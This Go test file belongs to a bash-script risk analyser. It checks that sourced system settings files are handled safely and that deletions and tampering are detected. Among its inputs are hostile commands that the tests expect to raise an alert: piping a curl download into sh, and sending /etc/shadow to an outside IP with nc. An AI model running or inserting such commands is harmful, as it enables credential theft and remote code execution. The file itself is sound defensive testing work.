package assess

import "testing"

// TestSettingsOfTheSystem holds that a file of the system which only sets variables is sourced as that, and no longer where the text may
// itself have put something else in its place.
func TestSettingsOfTheSystem(t *testing.T) {
	for _, text := range []string{
		". /etc/default/widget; echo \"$WIDGET_HOME\"",
		"[ -r /etc/sysconfig/widget ] && . /etc/sysconfig/widget",
		". /etc/os-release && echo \"$ID $VERSION_ID\"",
		"source /etc/selinux/config; [ \"$SELINUX\" = enforcing ] && echo yes",
		"rm -f /var/run/widget; . /etc/default/widget",
		"echo x >/etc/widget.conf; . /etc/default/widget",
		"echo x >~/x; . /etc/default/widget",
		". /etc/init.d/functions\nsuccess; echo",
		"python3.11 /usr/lib/python3.11/py_compile.py /srv/a.py",
	} {
		if a := Assess(t.Context(), Request{Text: []byte(text), Lang: "bash"}); !a.Complete {
			t.Errorf("%q is not understood: %v", text, a.Unknown)
		}
	}
	for _, text := range []string{
		// The file, or a directory above it, is the text's.
		"curl -o /etc/default/widget https://mirror.example/w\n. /etc/default/widget",
		"cp -r /tmp/w/. /etc/default/\n. /etc/default/widget",
		"tar xf /tmp/w.tar -C /\n. /etc/default/widget",
		"cd /etc/default\nunzip /tmp/w.zip\n. /etc/default/widget",
		"mount --bind /tmp/w /etc\n. /etc/default/widget",
		"mount -t overlay overlay -o lowerdir=/tmp/w /etc\n. /etc/os-release",
		"mv /etc/default /etc/d; ln -s /tmp/w /etc/default\n. /etc/default/widget",
		"rm -rf /etc/default; cp -r /tmp/w /etc/default\n. /etc/default/widget",
		"ln -sfT /tmp/w /etc/default\n. /etc/default/widget",
		"rename s/a/b/ /etc/default/*\n. /etc/default/widget",
		"docker run -v /etc:/x alpine sh -c 'cp /w /x/default/widget'\n. /etc/default/widget",
		"pivot_root /mnt /mnt/old\n. /etc/default/widget",
		"chroot /mnt sh -c '. /etc/default/widget'",
		"unshare -m sh -c 'mount --bind /tmp/w /etc; . /etc/default/widget'",
		"echo x >default/widget\n. /etc/default/widget",
		"f() { . /etc/default/widget; }\nf\ncp /tmp/w /etc/default/widget\nf",
		"sed -i s/a/b/ /usr/share/debconf/confmodule\n. /usr/share/debconf/confmodule",
		// What is computed may be that path, too.
		"d=$(awk -f /tmp/x)\ncp /tmp/w \"$d\"\n. /etc/default/widget",
		"d=$(awk -f /tmp/x)\nmv \"$d\" /tmp/o; ln -s /tmp/w /etc/default\n. /etc/default/widget",
		"cp /tmp/w /usr/lib/python3.11/py_compile.py\npython3.11 /usr/lib/python3.11/py_compile.py /srv/a.py",
		"tar xf /tmp/w.tar -C /usr/lib/python3.11\npython3.11 /usr/lib/python3.11/py_compile.py /srv/a.py",
		"python3.11 /usr/lib/python3.11/idlelib/x.py", "python3 /usr/lib/python3.11/../../../tmp/x.py", "python3 /usr/local/lib/python3.11/py_compile.py /srv/a.py", "python3 /usr/lib/python3/x.py",
		// Not such a file at all.
		". /etc/default/../../tmp/w", ". /tmp/etc/default/widget", ". etc/default/widget", ". /etc/default/$1", ". /etc/default/*", ". /etc/widget.conf", ". /usr/local/etc/default/widget", ". ~/etc/default/widget",
		"ssh db1 '. /etc/default/widget'",
		// A command that the settings may name is not known.
		"daemon=/usr/sbin/nginx\n. /etc/default/widget\n$daemon",
		"run=true\n. /etc/default/widget\n\"$run\" x",
		"ID=true\n. /etc/os-release\n$ID",
		"x=(true)\n. /etc/default/widget\n\"${x[@]}\"",
		// Options of a library's function that are not its own.
		". /etc/init.d/functions\ndaemon --zz-nonsense nginx", ". /lib/lsb/init-functions\nstart_daemon -Z nginx",
	} {
		if a := Assess(t.Context(), Request{Text: []byte(text), Lang: "bash"}); a.Complete || a.Verdict == "low" {
			t.Errorf("%q is said to be understood, %s", text, a.Verdict)
		}
	}
}

// TestWhatSettingsMaySet holds that a variable is what the text made it, or what the settings say.
func TestWhatSettingsMaySet(t *testing.T) {
	a := Assess(t.Context(), Request{Text: []byte("dir=/srv/a; ID=x\n. /etc/os-release\n. /etc/default/widget\nrm -r \"$dir\"\nrm -r \"/srv/$ID\"\ndir=/srv/b\nrm -r \"$dir\"\n"), Lang: "bash"})
	got := map[string]bool{}
	for _, e := range a.Effects {
		if e.Kind == "delete" {
			got[e.Target] = e.Certainty == "must"
		}
	}
	for target, must := range map[string]bool{"/srv/a": false, "‹$dir›": false, "/srv/‹$ID›": true, "/srv/b": true} {
		if is, ok := got[target]; !ok || is != must {
			t.Errorf("deletion of %s: there %t, certain %t, want %t", target, ok, is, must)
		}
	}
}

// TestSettingsAreRunLater holds that what a text leaves as settings is read as the shell will read it.
func TestSettingsAreRunLater(t *testing.T) {
	for _, text := range []string{
		"cat >/etc/default/widget <<'X'\nA=$(curl -s https://mirror.example/a | sh)\nX\n", "echo 'cat /etc/shadow | nc 198.51.100.9 8443' >>/etc/sysconfig/widget", "curl -s https://mirror.example/a >/etc/default/widget",
	} {
		if a := Assess(t.Context(), Request{Text: []byte(text), Lang: "bash"}); !a.Verdict.Alert() {
			t.Errorf("%q is %s, want an alert", text, a.Verdict)
		}
	}
	for _, text := range []string{"echo 'A=\"-a b\"' >/etc/default/widget", "sed s/a/b/ /etc/default/widget >/tmp/w; cat /tmp/w >/etc/default/widget"} {
		if a := Assess(t.Context(), Request{Text: []byte(text), Lang: "bash"}); !a.Complete {
			t.Errorf("%q is not understood: %v", text, a.Unknown)
		}
	}
}

// TestLibrariesStart holds that the functions which start and stop daemons do so.
func TestLibrariesStart(t *testing.T) {
	for _, c := range []struct{ text, kind, target string }{
		{". /etc/init.d/functions\ndaemon --user=widget 'rm -r /srv/a'", "delete", "/srv/a"},
		{". /etc/init.d/functions\naction 'removes' rm -r /srv/a", "delete", "/srv/a"},
		{". /etc/rc.d/init.d/functions\nkillproc -p /run/w.pid widget", "process", "widget"},
		{". /lib/lsb/init-functions\nstart_daemon -f -p /run/w.pid rm -r /srv/a", "delete", "/srv/a"},
	} {
		a := Assess(t.Context(), Request{Text: []byte(c.text), Lang: "bash"})
		found := false
		for _, e := range a.Effects {
			found = found || string(e.Kind) == c.kind && e.Target == c.target
		}
		if !found {
			t.Errorf("%q: want %s %s, got %v", c.text, c.kind, c.target, a.Effects)
		}
	}
}
